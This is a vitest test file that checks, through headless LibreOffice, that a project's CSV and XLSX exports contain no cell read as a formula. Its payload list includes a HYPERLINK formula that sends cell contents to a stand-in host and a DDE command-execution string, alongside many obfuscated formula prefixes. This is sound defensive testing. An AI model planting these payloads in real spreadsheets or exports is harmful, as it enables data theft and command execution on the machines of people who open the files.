/** What LibreOffice makes of our sheets: no cell is a formula. Where there is no LibreOffice nothing is proved, and it says so. */
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { toCsv } from '../../utils/exporting/csv';
import type { ThreadExport } from '../../utils/exporting/thread-export';
import { toXlsx } from '../../utils/exporting/xlsx';
import { aNote, anExport, aPost, options } from './sample';

/** Begun by what spreadsheets skip, by signs that look alike, on a later line, out of a quoted field. */
const PAYLOADS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\0=1+1',
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff20SUM(1,1)',
  '"=1+1',
  'ayer\n=1+1',
  '=HYPERLINK("https://mala.example/?"&A1,"pulsa")',
  "=cmd|' /C calc'!A0",
  '","=1+1',
];

/** How LibreOffice reads CSV: commas, quotes, UTF-8; and, asked to, what looks like a formula as one. */
const READ = 'CSV:44,34,76,1,,0,false,true,false,false,false,0,true';

const office = ['soffice', 'libreoffice'].find(
  (name) => spawnSync(name, ['--version'], { stdio: 'ignore' }).status === 0,
);
if (!office) console.warn('SKIPPED: no LibreOffice here, so that no spreadsheet was asked (Debian: libreoffice-calc)');

/** Each payload wherever somebody else's words go. */
const hostile: ThreadExport = anExport(
  PAYLOADS.map((text, i) =>
    aPost(String(i), {
      text,
      author: { name: text, handle: text, url: text },
      quotes: [{ author: text, text }],
      media: [{ alt: text, url: 'https://cafe.example/p.png' }],
    }),
  ),
  PAYLOADS.map((text, i) => aNote(`post:cafe.example:${i}`, text, { tags: [text] })),
  { title: '=1+1' },
);
const all = { ...options, notes: true };

describe.skipIf(!office)('LibreOffice', { timeout: 120_000 }, () => {
  let folder = '';
  beforeAll(async () => {
    folder = mkdtempSync(join(tmpdir(), 'tertulia-sheets-'));
    const bare = PAYLOADS.map((text) => `"${text.replaceAll('"', '""')}"`).join('\r\n');
    writeFileSync(join(folder, 'bare.csv'), `\ufeff${bare}\r\n`);
    writeFileSync(join(folder, 'rows.csv'), toCsv(hostile, all));
    writeFileSync(join(folder, 'sheet.xlsx'), new Uint8Array(await (await toXlsx([hostile], all)).arrayBuffer()));
    convert(`--infilter=${READ}`, 'bare.csv', 'rows.csv');
    convert('sheet.xlsx');
  }, 120_000);
  afterAll(() => rmSync(folder, { recursive: true, force: true }));

  /** Opens files and writes each as XML, where formulas stand as such. */
  function convert(...given: string[]): void {
    const own = [`-env:UserInstallation=file://${folder}/profile`, '--headless', '--norestore'];
    const to = ['--convert-to', 'fods', '--outdir', folder];
    execFileSync(office as string, [...own, ...to, ...given], { cwd: folder, stdio: 'ignore', timeout: 100_000 });
  }

  /** The cells as LibreOffice has them. */
  function cellsOf(name: string): { formulas: string[]; rows: number } {
    const sheet = readFileSync(join(folder, `${name}.fods`), 'utf8');
    const table = sheet.slice(sheet.indexOf('<table:table '));
    return {
      formulas: [...table.matchAll(/table:formula="([^"]*)"/g)].map(([, formula]) => formula ?? ''),
      rows: [...table.matchAll(/<table:table-row\b[^>]*>(?=\s*<table:table-cell[^>]* office:value-type)/g)].length,
    };
  }

  it('takes them for formulas where nobody guards against it', () => {
    expect(cellsOf('bare').formulas.length).toBeGreaterThanOrEqual(4);
  });

  it.each([
    ['CSV', 'rows'],
    ['XLSX', 'sheet'],
  ])('finds no formula in our %s, and every row', (_, name) => {
    expect(cellsOf(name)).toEqual({ formulas: [], rows: PAYLOADS.length + 1 });
  });
});
